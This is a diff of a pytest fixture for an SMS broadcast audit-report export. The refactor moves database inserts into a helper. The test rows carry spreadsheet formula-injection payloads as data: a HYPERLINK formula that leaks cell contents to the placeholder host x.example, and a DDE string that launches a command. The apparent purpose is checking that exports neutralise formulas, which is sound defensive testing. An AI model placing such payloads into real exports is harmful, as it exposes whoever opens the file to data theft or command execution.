@@ -15,9 +15,8 @@ from broadcast.audit import delivery_log as dl
 from broadcast.audit.report import build
 from broadcast.audit.report_files import write_xlsx
 from broadcast.audit.trail import export, note, verify_file
-from broadcast.db.dispatch_models import Delivery
 from broadcast.db.engine import transaction
-from broadcast.db.models import Message
+from tests.helpers.rows import insert_sent_message
 from tests.recipients.files import read_csv
 
 EVIL_NAME = "=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")"
@@ -27,20 +26,13 @@ EVIL_ERROR = "-cmd|' /C calc'!A0"
 
 @pytest.fixture
 def sent(ws):
-    m, d = Message.__table__, Delivery.__table__
     at = datetime(2026, 11, 25, 0, 30, tzinfo=UTC)
     with ws.engine.begin() as conn:
-        conn.execute(m.insert().values(
-            id=1, body="x", template=None, signature="", category="notice", status="sent", author="a",
-            approver="b", reject_reason=None, status_reason=None, created_at=at, updated_at=at, started_at=at,
-            scheduled_at=None, send_after=None, schedule_id=None, target_all=True, optout_skipped=0))
-        conn.execute(d.insert(), [
-            dict(message_id=1, kind="real", member_id=None, phone="+8613805141234", name=EVIL_NAME,
-                 group_name=EVIL_GROUP, text="t", parts=1, status="failed", attempts=1, gateway="+http",
-                 queued_at=at, updated_at=at, sent_at=None, error_code=EVIL_ERROR, error_text="\t=1+1"),
-            dict(message_id=1, kind="real", member_id=None, phone="+8613905141234", name="张三",
-                 group_name="青石村党支部", text="t", parts=1, status="delivered", attempts=1, gateway="simulator",
-                 queued_at=at + timedelta(seconds=1), updated_at=at, sent_at=at, error_code=None, error_text=None),
+        insert_sent_message(conn, at, [
+            dict(phone="+8613805141234", name=EVIL_NAME, group_name=EVIL_GROUP, status="failed", gateway="+http",
+                 sent_at=None, error_code=EVIL_ERROR, error_text="\t=1+1"),
+            dict(phone="+8613905141234", name="张三", group_name="青石村党支部", status="delivered",
+                 queued_at=at + timedelta(seconds=1)),
         ])
     return ws
 
